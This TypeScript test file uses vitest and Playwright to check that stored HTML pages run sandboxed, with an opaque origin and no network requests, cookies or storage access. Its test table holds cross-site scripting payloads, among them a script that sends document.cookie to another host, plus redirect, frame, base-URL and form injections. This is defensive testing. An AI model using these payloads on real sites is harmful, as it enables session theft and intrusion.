import { createServer } from 'node:http';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { storePages } from '#lib/service/stored-pages/stored-pages';
import { launchBrowser } from '#tests/support/browser';
import { allowBrowserProblems } from '#tests/support/browser-problems';
import { getServerUrl, startService } from '#tests/support/service';

const testService = await startService();
/** The requests that another site, `otherSite`, has received. */
const requests: string[] = [];
const otherSite = createServer((request, response) => {
  requests.push(`${request.method} ${request.url}`);
  response.end('other site');
});
await new Promise<void>((resolve) => otherSite.listen(0, '127.0.0.1', resolve));
const otherUrl = getServerUrl(otherSite);
let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
// The browser reports everything that it blocks.
beforeEach(() => allowBrowserProblems(/^(?:console|failed): /));
afterAll(async () => {
  await browser?.close();
  otherSite.closeAllConnections();
  otherSite.close();
  await testService.stop();
});

/** Opens a stored page in a browser that has a session cookie for its host. */
async function openStoredPage(html: string): Promise<Page> {
  const { id } = await testService.createTenant();
  const [url = ''] = await storePages(testService.service, id, [
    `<!doctype html><title>stored</title>${html}`,
  ]);
  const context = await browser.newContext();
  await context.addCookies([{ name: 'answerscope.session', value: 'secret', url: testService.baseUrl }]);
  const page = await context.newPage();
  await page.goto(url.replace(testService.service.settings.STORAGE_URL, `${testService.baseUrl}/storage`));
  await page.waitForLoadState('networkidle');
  return page;
}

/** Clicks the element `#go`, if there is one, and waits until its requests have ended. */
async function clickAndWait(page: Page): Promise<void> {
  await page
    .locator('#go')
    .click({ timeout: 2_000 })
    .catch(() => {});
  await page.waitForLoadState('networkidle');
}

const listRequests = () => requests.filter((request) => !request.endsWith('/favicon.ico'));

test.each([
  ['a script', `<script>document.title = 'ran'; fetch('${otherUrl}/script?' + document.cookie)</script>`],
  [
    'an event handler',
    `<img src="data:," onerror="document.title = 'ran'; location = '${otherUrl}/handler'">`,
  ],
  ['a script of another site', `<script src="${otherUrl}/script.js"></script>`],
  ['a style of another site', `<link rel="stylesheet" href="${otherUrl}/style.css">`],
  ['a frame', `<iframe src="${otherUrl}/frame"></iframe><object data="${otherUrl}/object"></object>`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${otherUrl}/refresh">`],
  ['a base URL', `<base href="${otherUrl}/"><script src="base.js"></script>`],
  ['a script URL', `<a id="go" href="javascript:document.title='ran'">go</a>`],
  ['a form', `<form id="form" action="${otherUrl}/form" method="post"><button id="go">go</button></form>`],
  ['a new window', `<a id="go" href="${otherUrl}/window" target="_blank" rel="opener">go</a>`],
])('%s in a stored page sends no request and has no effect', async (_, html) => {
  requests.length = 0;
  const page = await openStoredPage(html);
  await clickAndWait(page);
  expect(await page.title()).toBe('stored');
  expect(listRequests()).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  await page.context().close();
});

test('a link in a stored page opens in the same window', async () => {
  requests.length = 0;
  const page = await openStoredPage(`<a id="go" href="${otherUrl}/top" target="_top">go</a>`);
  await clickAndWait(page);
  expect(await page.title()).toBe('');
  expect(listRequests()).toEqual(['GET /top']);
  expect(page.context().pages()).toHaveLength(1);
  await page.context().close();
});

test('stored pages run in an opaque origin without access to sessions or storage', async () => {
  const page = await openStoredPage('<p>stored</p>');
  expect(await page.evaluate(() => window.origin)).toBe('null');
  const results = await page.evaluate(() =>
    [() => document.cookie, () => localStorage.length, () => indexedDB.open('x')].map((read) => {
      try {
        return String(read());
      } catch (error) {
        return error instanceof Error ? error.name : 'failed';
      }
    }),
  );
  expect(results).toEqual(['SecurityError', 'SecurityError', 'SecurityError']);
  await page.context().close();
});
